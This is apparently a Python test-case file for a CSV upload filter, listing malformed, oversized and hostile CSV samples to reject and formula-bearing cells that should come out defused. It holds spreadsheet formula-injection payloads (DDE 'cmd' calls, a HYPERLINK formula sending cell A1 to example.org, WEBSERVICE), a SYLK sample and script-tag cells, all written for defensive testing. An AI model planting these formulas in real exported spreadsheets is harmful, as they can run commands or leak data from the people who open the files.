"""CSV made to run, mislead or exhaust: after the published work on formula injection."""

from collections.abc import Iterator

from tests.filters.hostile.cases import Case, Sound

PACKS = ("csv",)
_FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://example.org?x="&A1,"ok")', "@SUM(1+1)*cmd",
    "+1+1", "-2+3+cmd|' /C calc'!D2", '=WEBSERVICE("http://example.org")', "=DDE(1)", "  =1+1",
    "\t=1+1", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)", "\u00a0=1+1", "+CALL(1)",
    "-A1", "--1", "+-1", "=", "@", "+", "-", "-1e", "+1,", "1=", "\n=1+1",
)  # fmt: skip
_BROKEN = {
    "open-quote": b'a,b\n1,"two\n',
    "quote-inside": b'a,b\n1,tw"o\n',
    "after-quote": b'a,b\n1,"two"x\n',
    "blank-before-quote": b'a,b\n1, "two"\n',
    "blank-after-quote": b'a,b\n1,"two" \n',
    "three-quotes": b'a,b\n1,"""\n',
    "single-quote-end": b'a,b\n1,two"\n',
    "backslash-quote": b'a,b\n1,"t\\"wo"\n',
}
_SHAPES = {
    "short-row": b"a,b,c\n1,2,3\n1,2\n",
    "long-row": b"a,b\n1,2\n1,2,3\n",
    "blank-row": b"a,b\n\n1,2\n",
    "no-name": b"a,,c\n1,2,3\n",
    "same-name": b"a,b,a\n1,2,3\n",
    "same-name-by-case": b"a,B,b\n1,2,3\n",
    "same-name-by-blank": b"a,a \n1,2\n",
    "directive": b"sep=;\na;b\n1;2\n",
    "directive-upper": b"SEP=,\na,b\n1,2\n",
    "directive-quoted": b'"sep=;"\nx;=1+1\n',
    "directive-cell": b'"sep=;",b\n"x;=1+1",2\n',
    "directive-blanks": b" Sep=;\nx;=1+1\n",
    "line-end-in-name": b'"a\nb",c\n1,2\n',
    "other-delimiter-rows": b"a;b\n1;2,3\n",
    "trailing-comma": b"a,b\n1,2,\n",
    "title-before-header": b"Report of May\na,b\n1,2\n",
    "only-quotes": b'"",""\n1,2\n',
}


def hostile() -> Iterator[Case]:
    """Every sample that must not pass."""
    for name, payload in _BROKEN.items():
        yield Case(f"broken-{name}", payload, ("syntax",))
    for name, payload in _SHAPES.items():
        yield Case(f"shape-{name}", payload, ("csv-shape",))
    for character in "\u202e\u2066\u200f":
        name = f"bidi-{ord(character):04x}"
        yield Case(name, f"a,b\n1,x{character}y\n".encode(), ("text-bidi",))
    for character in "\u200b\u00ad\u2060\ufeff\u3164\ufe00\U000e0041\U000e0100":
        name = f"invisible-{ord(character):04x}"
        yield Case(name, f"a,b\n1,x{character}y\n".encode(), ("text-invisible",))
    for character in "\x00\x01\x0b\x0c\x1b\x1f\x7f\u0085\u2028\ue000\uffff\u0378":
        name = f"control-{ord(character):04x}"
        yield Case(name, f"a,b\n1,x{character}y\n".encode(), ("character-not-allowed",))
    encodings = ("latin-1", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "cp1252")
    for name in encodings:
        payload = "a,b\n1,\u00fc\n".encode(name)
        yield Case(f"encoding-{name}", payload, ("encoding-not-utf8",))
    yield Case("overlong", b"a,b\n1,\xc0\xbd1+1\n", ("encoding-not-utf8",))
    yield Case("surrogate", b"a,b\n1,\xed\xa0\x80\n", ("encoding-not-utf8",))
    yield Case("empty", b"\n\n\n", ("empty",))
    yield Case("mark-of-order-alone", b"\xef\xbb\xbf\r\n", ("empty",))
    yield Case("php-in-quotes", b'"<?php echo 1; ?>",b\n1,2\n', ("type-not-allowed",))
    yield Case("html-in-quotes", b'"<script>",b\n1,2\n', ("type-not-allowed",))
    yield Case("html", b"<html><table><tr><td>1</table>", ("type-not-allowed",))
    yield Case("xml-spreadsheet", b"<?xml version='1.0'?><Workbook/>", ("type-not-allowed",))
    yield Case("sylk", b"ID;P\nC;Y1;X1;K\"=cmd|'/c calc'!A0\"\n", ("syntax", "type-not-allowed"))
    yield Case("zip", b"PK\x03\x04,b\n1,2\n", ("type-not-allowed", "character-not-allowed"))
    yield Case(
        "declared-excel", b"a,b\n1,2\n", ("type-not-allowed",), type="application/vnd.ms-excel"
    )
    yield Case("many-rows", b"a\n" + b"1\n" * 60_000, ("too-many-lines",))
    wide = b",".join(b"c%d" % n for n in range(300))
    yield Case("many-columns", wide + b"\n", ("too-many-elements",))
    yield Case("many-commas", b"," * 500_000, ("too-many-elements",))
    yield Case("many-quotes", b'"' * 900_001, ("syntax", "text-too-long", "csv-shape"))
    yield Case("many-doubled-quotes", b"a\n" + b'"' * 900_000, ("text-too-long",))
    yield Case("long-cell", b"a,b\n1," + b"x" * 9000 + b"\n", ("text-too-long",))
    yield Case("large", b"a,b\n" + b"1,some text\n" * 100_000, ("size-out-of-bounds",))
    marks = "\u0316" * 40
    yield Case("stacked-marks", f"a,b\n1,x{marks}\n".encode(), ("text-marks",))
    yield Case("label", b"a,b\n1,2\n", ("label-no-mapping",), label="SECRET")


def sound() -> Iterator[Sound]:
    """Ordinary tables, and formulas, which come out defused."""
    yield Sound("plain", b"a,b\n1,2\n")
    yield Sound("header-only", b"a,b\n")
    yield Sound("one-column", b"a\n1\n2\n")
    yield Sound("empty-cells", b"a,b\n,\n,2\n")
    yield Sound("quoted", b'a,b\n"1","t""w,o"\n', gone=(b'"1"',))
    yield Sound("windows", b'\xef\xbb\xbfa,b\r\n1,"x\r\ny"\r\n\r\n', gone=(b"\r", b"\xef\xbb\xbf"))
    yield Sound("mac", b"a,b\r1,2\r", gone=(b"\r",))
    yield Sound("numbers", b"a,b,c,d\n-1,+2.5,-1e-3,-12%\n+49.30.1234,-0,-1.234,1\n")
    yield Sound("decomposed", "a,b\nCafe\u0301,x\n".encode(), gone=(b"\xcc\x81",))
    yield Sound("one-empty-cell", b'a\n""\nx\n')
    yield Sound("blanks", b"a,b\n x , y\n")
    yield Sound("defused-already", b"a,b\n'=1+1,x\n")
    for number, formula in enumerate(_FORMULAS):
        cell = formula.replace('"', '""')
        gone = () if formula in ("1=", "+1,") else (f',"{cell}"\n'.encode(),)
        yield Sound(f"formula-{number}", f'a,b\n1,"{cell}"\n'.encode(), gone=gone)
    yield Sound("formula-as-name", b"=1+1,b\n1,2\n")
